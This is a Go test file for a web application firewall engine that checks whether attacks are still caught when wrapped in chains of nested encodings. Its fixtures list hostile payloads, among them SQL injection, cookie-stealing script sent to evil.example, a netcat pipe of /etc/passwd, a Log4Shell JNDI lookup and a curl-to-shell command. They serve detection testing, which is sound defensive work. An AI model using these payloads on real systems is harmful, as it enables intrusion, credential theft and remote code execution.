package engine

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/gabionhq/gabion/engine/parse"
	"github.com/gabionhq/gabion/engine/rule"
)

// A wrapper puts a value into a format.
type wrapper struct {
	name   string
	kind   parse.Kind
	binary bool // takes any bytes, not only text
	wrap   func(string) string
}

var wrappers = []wrapper{
	{"json", parse.JSON, false, func(s string) string { return `{"id":7,"note":` + quoted(s) + `}` }},
	{"xml", parse.XML, false, func(s string) string { return `<doc><id>7</id><note>` + escapedXML(s) + `</note></doc>` }},
	{"form", parse.Form, true, func(s string) string { return "id=7&note=" + url.QueryEscape(s) }},
	{"multipart", parse.Multipart, true, func(s string) string {
		sep := fmt.Sprintf("--sep%d", len(s))
		return sep + "\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n" + s + "\r\n" + sep + "--\r\n"
	}},
	{"base64", parse.Base64, true, func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }},
	{"base64url", parse.Base64, true, func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }},
	{"percent", parse.Percent, true, func(s string) string { return strings.ReplaceAll(url.QueryEscape(s), "+", "%20") }},
	{"gzip", parse.Gzip, true, func(s string) string {
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		z.Write([]byte(s))
		z.Close()
		return b.String()
	}},
	{"jwt", parse.JWT, true, func(s string) string {
		return "eyJhbGciOiJIUzI1NiJ9." + base64.RawURLEncoding.EncodeToString([]byte(s)) + ".c2lnbmF0dXJl"
	}},
	{"html", parse.HTMLJS, false, func(s string) string {
		var b strings.Builder
		for _, r := range s {
			fmt.Fprintf(&b, "&#x%x;", r)
		}
		return b.String()
	}},
	{"hex", parse.Hex, true, func(s string) string { return hex.EncodeToString([]byte(s)) }},
	{"graphql", parse.JSON, false, func(s string) string {
		return `{"query":"query($v: String) { note(text: $v) { id } }","variables":{"v":` + quoted(s) + `}}`
	}},
}

func quoted(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func escapedXML(s string) string {
	var b bytes.Buffer
	xml.EscapeText(&b, []byte(s))
	return b.String()
}

// nest wraps a value, innermost format last. Where a format cannot carry
// bytes, base64 is put between.
func nest(value string, chain []wrapper) string {
	for i := len(chain) - 1; i >= 0; i-- {
		if !chain[i].binary && (!utf8.ValidString(value) || strings.ContainsAny(value, "\x00\x1f\x08")) {
			value = base64.StdEncoding.EncodeToString([]byte(value))
		}
		value = chain[i].wrap(value)
	}
	return value
}

func chainName(chain []wrapper) string {
	var names []string
	for _, w := range chain {
		names = append(names, w.name)
	}
	return strings.Join(names, ".")
}

const (
	nestedAttack   = "1' UNION SELECT login, password FROM users -- "
	nestedTemplate = "{{''.__class__.__mro__[1].__subclasses__()}}"
	nestedBenign   = "The quick brown fox jumps over 13 lazy dogs today"
)

// checkChain checks that attacks are found through a chain and their benign
// twin passes, as a body and as a parameter.
func checkChain(t *testing.T, e *Engine, chain []wrapper, attacks ...string) {
	t.Helper()
	f := func(value string, attack bool) {
		t.Helper()
		body := nest(value, chain)
		for _, r := range []*request{
			{method: "POST", target: "/notes", body: body},
			{method: "GET", target: "/notes?note=" + url.QueryEscape(body)},
		} {
			v, rep := inspect(e, nil, Env{Mode: rule.Block}, r, whole)
			if v.Attack != attack {
				t.Errorf("%s %s: attack %v, want %v, limits %v, body %.200q, %+v", r.method, chainName(chain), v.Attack, attack, rep.Limits, body, rep.Findings)
			}
			if attack && !foundThrough(t, rep, chain) {
				t.Errorf("%s %s: not found there, limits %v, but at", r.method, chainName(chain), rep.Limits)
				for _, f := range rep.Findings {
					t.Log(f.Point)
				}
			}
		}
	}
	for _, a := range attacks {
		f(a, true)
	}
	f(nestedBenign, false)
}

// foundThrough reports whether a finding's point passes all formats of a
// chain in their order.
func foundThrough(t *testing.T, rep *Report, chain []wrapper) bool {
	t.Helper()
	for _, f := range rep.Findings {
		steps, err := parse.ParsePoint(f.Point)
		if err != nil {
			t.Fatal(err)
		}
		// Letters and digits are the same percent-encoded.
		left := slices.DeleteFunc(slices.Clone(chain), func(w wrapper) bool { return w.kind == parse.Percent })
		for _, s := range steps {
			if len(left) > 0 && s.Kind == left[0].kind {
				left = left[1:]
			}
		}
		if len(left) == 0 {
			return true
		}
	}
	return false
}

func TestEveryFormatInEveryOther(t *testing.T) {
	e := New(Options{})
	for _, a := range wrappers {
		for _, b := range wrappers {
			for _, c := range wrappers {
				checkChain(t, e, []wrapper{a, b, c}, nestedAttack, nestedTemplate)
			}
		}
		if t.Failed() {
			return
		}
	}
}

// TestDeepChains reads through chains of formats, eight deep, 200 for each attack.
func TestDeepChains(t *testing.T) {
	e := New(Options{})
	for i, attack := range []string{
		nestedAttack, nestedTemplate,
		"<script>fetch('//evil.example/?c='+document.cookie)</script>",
		"; cat /etc/passwd | nc 203.0.113.7 4444",
		"../../../../etc/passwd",
		"${jndi:ldap://evil.example/a}",
		"\"><img src=x onerror=alert(1)>",
		"$(curl http://evil.example/x.sh|sh)",
		"1 OR 1=1", "admin' --",
	} {
		rnd := rand.New(rand.NewPCG(uint64(3+i), 4))
		for range 200 {
			checkChain(t, e, randomChain(rnd), attack)
		}
	}
}

// randomChain returns a chain of eight formats.
func randomChain(rnd *rand.Rand) []wrapper {
	chain := make([]wrapper, 8)
	size := 1.0
	for i := range chain {
		chain[i] = wrappers[rnd.IntN(len(wrappers))]
		// A character reference takes six bytes for one: more than two
		// would make a value that is longer than a window.
		if chain[i].name == "html" {
			size *= 6
		}
		if size > 36 {
			chain[i] = wrappers[0]
		}
	}
	return chain
}

// TestLongChains reads what is longer than a window because of the formats that it
// is in.
func TestLongChains(t *testing.T) {
	e := New(Options{})
	for _, names := range []string{
		"html.html.html.json.graphql",
		"hex.html.html.jwt.html.html.json",
		"html.html.hex.hex.jwt.html.jwt.html",
		"hex.hex.percent.html.hex.html.gzip.jwt",
		"base64url.hex.json.html.html.hex.graphql.graphql",
		"form.html.html.html.hex.multipart",
		"json.html.html.html.base64.hex",
		"multipart.html.html.html.base64.hex",
		"percent.html.html.html.hex.gzip.hex",
	} {
		checkChain(t, e, chainOf(names), nestedAttack)
	}
}

// TestLongPaddedChains reads references with zeros in front of their numbers, and white
// space around what is encoded.
func TestLongPaddedChains(t *testing.T) {
	e := New(Options{})
	inner := nest(nestedAttack, chainOf("html.html.html.base64.gzip"))
	for _, zeros := range []int{4, 8, 12, 55} {
		var b strings.Builder
		for i := range len(inner) {
			fmt.Fprintf(&b, "&#x%s%x;", strings.Repeat("0", zeros), inner[i])
		}
		for _, body := range []string{b.String(), "\n" + b.String(), " " + b.String() + "\n"} {
			for _, wrap := range []func(string) string{
				func(s string) string { return s }, chainOf("form")[0].wrap, chainOf("json")[0].wrap,
			} {
				v, rep := inspect(e, nil, Env{Mode: rule.Block}, &request{method: "POST", target: "/notes", body: wrap(body)}, whole)
				if !v.Attack {
					t.Errorf("%d zeros, %.40q: no attack, limits %v", zeros, wrap(body), rep.Limits)
				}
			}
		}
	}
	for _, names := range []string{"hex.html.html.html.html.base64.gzip", "base64.html.html.html.html.base64.gzip"} {
		body := "\n" + nest(nestedAttack, chainOf(names)) + "\r\n"
		if v, rep := inspect(e, nil, Env{Mode: rule.Block}, &request{method: "POST", target: "/notes", body: body}, whole); !v.Attack {
			t.Errorf("%s: no attack, limits %v", names, rep.Limits)
		}
	}
}

// chainOf returns the chain that chainName writes.
func chainOf(names string) (chain []wrapper) {
	for name := range strings.SplitSeq(names, ".") {
		i := slices.IndexFunc(wrappers, func(w wrapper) bool { return w.name == name })
		chain = append(chain, wrappers[i])
	}
	return chain
}
